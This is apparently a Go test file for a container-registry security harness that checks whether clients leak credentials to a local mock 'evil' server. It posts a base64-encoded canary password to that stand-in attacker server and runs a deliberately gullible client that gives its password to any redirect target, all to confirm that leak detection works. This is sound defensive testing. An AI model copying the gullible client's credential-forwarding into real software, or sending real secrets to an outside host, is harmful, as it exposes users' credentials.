package registrytest

import (
	"bytes"
	"compress/gzip"
	"encoding/base32"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"
)

func TestSightings(t *testing.T) {
	const secret = "p4ss/w?rd+~with=signs"
	inside := func(encode func([]byte) string) func(before string) string {
		return func(before string) string { return encode([]byte(before + secret + "!!")) }
	}
	zipped := func(before string) string {
		var out bytes.Buffer
		z := gzip.NewWriter(&out)
		z.Write([]byte(before + secret))
		if err := z.Close(); err != nil {
			t.Fatal(err)
		}
		return "header" + out.String()
	}
	percent := func(before string) string {
		out := before
		for _, c := range []byte(secret) {
			out += fmt.Sprintf("%%%02x", c)
		}
		return out
	}
	for name, encode := range map[string]func(before string) string{
		"as it is":             func(before string) string { return before + secret },
		"base64":               inside(base64.StdEncoding.EncodeToString),
		"base64 for addresses": inside(base64.RawURLEncoding.EncodeToString),
		"base32":               func(string) string { return base32.StdEncoding.EncodeToString([]byte(secret)) },
		"hex":                  inside(hex.EncodeToString),
		"query-escaped":        func(before string) string { return before + url.QueryEscape(secret) },
		"percent-encoded":      percent,
		"as it is in gzip":     zipped,
	} {
		for _, before := range []string{"", "u", "us", "user:"} {
			found := Sightings([]byte(encode(before)), secret)
			// The alphabets of base64 differ in two characters that may not occur.
			if want := strings.TrimSuffix(name, " for addresses"); !strings.Contains(strings.Join(found, "\n"), want) {
				t.Errorf("%s behind %q: found %q", name, before, found)
			}
		}
	}
	if found := Sightings([]byte("p4ss/w?rd+~with=other and much else"), secret); found != nil {
		t.Errorf("found %q where the secret is not", found)
	}
}

func TestLedger(t *testing.T) {
	var ledger Ledger
	password := Canary("home")
	home := Start(t, As(Harbor), WithLogin(), WithPassword(password), WithLedger(&ledger, "home"))
	evil := NewEvil(t, &ledger, "evil")
	Conformance(t, home.Host(), Harbor.Traits)
	if len(ledger.Find(password)) == 0 {
		t.Fatal("the login was not heard at home")
	}
	ledger.Clean(t, password, "home")

	response, err := http.Post(evil.URL(), "text/plain", strings.NewReader("x="+base64.StdEncoding.EncodeToString([]byte("u:"+password))))
	if err != nil {
		t.Fatal(err)
	}
	response.Body.Close()
	heard := &witness{TB: t}
	ledger.Clean(heard, password, "home")
	if len(heard.errors) != 1 || !strings.Contains(heard.errors[0], "evil: POST / HTTP/1.1 (body, base64)") {
		t.Errorf("the leak is told as %q", heard.errors)
	}
	if Canary("home") == Canary("evil") || ledger.Requests("evil") != 1 {
		t.Errorf("canaries %s and %s, %d requests", Canary("home"), Canary("evil"), ledger.Requests("evil"))
	}
}

// witness hears errors that are expected.
type witness struct {
	testing.TB
	errors []string
}

func (w *witness) Helper() {}

func (w *witness) Errorf(format string, args ...any) {
	w.errors = append(w.errors, fmt.Sprintf(format, args...))
}

func TestTrapCountsConnections(t *testing.T) {
	var ledger Ledger
	trap := SilentTrap(t, &ledger, "")
	NewTrap(t, &ledger, "") // fails this test if anything goes there
	visitor, err := net.DialTimeout("tcp", trap.Addr, time.Minute)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := visitor.Write([]byte("GET / HTTP/1.1\r\nAuthorization: " + CanaryPassword)); err != nil {
		t.Fatal(err)
	}
	if _, err := visitor.Read(make([]byte, 1)); err == nil { // it hangs up when it has heard enough
		t.Error("the trap answered")
	}
	visitor.Close()
	if len(trap.Contacts()) != 1 || len(ledger.Find(CanaryPassword)) != 1 {
		t.Errorf("contacts %q, sightings %v", trap.Contacts(), ledger.Find(CanaryPassword))
	}
}

// A client that trusts everything leaks under every attack, so a client that
// does not leak was really attacked.
func TestAttacksWorkOnTheGullible(t *testing.T) {
	image := Image(1)
	for _, attack := range Attacks {
		t.Run(attack.Name, func(t *testing.T) {
			t.Parallel()
			var ledger Ledger
			password := Canary("registry")
			registry := Start(t, WithTokens(time.Minute), WithPassword(password), WithLedger(&ledger, "registry"))
			evil := NewEvil(t, &ledger, "evil")
			Push(t, registry.Host(), "app", "v1", image)
			attack.Arm(registry, evil.URL())
			g := gullible{t, registry.URL(), password}
			switch attack.Needs {
			case "login", "pull":
				g.ask(http.MethodHead, "/v2/app/manifests/v1", nil)
				g.ask(http.MethodGet, "/v2/app/manifests/v1", nil)
				g.ask(http.MethodGet, "/v2/app/blobs/"+string(image.Blobs[0].Digest()), nil)
			case "push":
				location := g.ask(http.MethodPost, "/v2/app/blobs/uploads/", nil).Header.Get("Location")
				location = g.ask(http.MethodPatch, location, []byte("x")).Header.Get("Location")
				g.ask(http.MethodPut, location+"?digest=x", []byte("x"))
				g.ask(http.MethodPut, "/v2/app/manifests/v2", image.Raw)
			case "list":
				g.follow("/v2/app/tags/list")
				g.follow("/v2/_catalog")
			case "refer":
				g.follow("/v2/app/referrers/" + string(image.Digest()))
			}
			heard := &witness{TB: t}
			ledger.Clean(heard, password, "registry")
			if len(heard.errors) == 0 {
				t.Errorf("nothing leaked; the evil server heard %d requests", ledger.Requests("evil"))
			}
		})
	}
}

// gullible does everything that a client must not do: it gives its password to
// whoever it is sent to.
type gullible struct {
	t        *testing.T
	base     string
	password string
}

func (g gullible) ask(method, target string, body []byte) *http.Response {
	g.t.Helper()
	at, err := url.Parse(g.base)
	if err != nil {
		g.t.Fatal(err)
	}
	var token string
	for range 6 {
		next, err := at.Parse(target)
		if err != nil {
			g.t.Fatal(err)
		}
		at = next
		request, err := http.NewRequest(method, at.String(), bytes.NewReader(body))
		if err != nil {
			g.t.Fatal(err)
		}
		request.SetBasicAuth(CanaryUser, g.password)
		if token != "" {
			request.Header.Set("Authorization", "Bearer "+token)
		}
		response, err := http.DefaultTransport.RoundTrip(request)
		if err != nil {
			g.t.Fatal(err)
		}
		response.Body.Close()
		switch {
		case response.StatusCode >= 300 && response.StatusCode < 400:
			target, token = response.Header.Get("Location"), ""
		case response.StatusCode == http.StatusUnauthorized && token == "":
			realm := challengePart.FindStringSubmatch(response.Header.Get("WWW-Authenticate"))[2]
			token = g.token(realm + "?service=freightliner&scope=" + url.QueryEscape("repository:app:pull,push") + "&scope=" + url.QueryEscape("registry:catalog:*"))
		default:
			return response
		}
	}
	return &http.Response{Header: http.Header{}}
}

// token follows redirects of the token request, too.
func (g gullible) token(realm string) string {
	for range 3 {
		request, err := http.NewRequest(http.MethodGet, realm, nil)
		if err != nil {
			g.t.Fatal(err)
		}
		request.SetBasicAuth(CanaryUser, g.password)
		response, err := http.DefaultTransport.RoundTrip(request)
		if err != nil {
			g.t.Fatal(err)
		}
		var answer struct{ Token string }
		err = json.NewDecoder(response.Body).Decode(&answer)
		response.Body.Close()
		if err == nil && response.StatusCode == http.StatusOK {
			return answer.Token
		}
		realm = response.Header.Get("Location")
	}
	return "none"
}

func (g gullible) follow(target string) {
	link := g.ask(http.MethodGet, target, nil).Header.Get("Link")
	if match := linkNext.FindStringSubmatch(link); match != nil {
		g.ask(http.MethodGet, match[1], nil)
	}
}
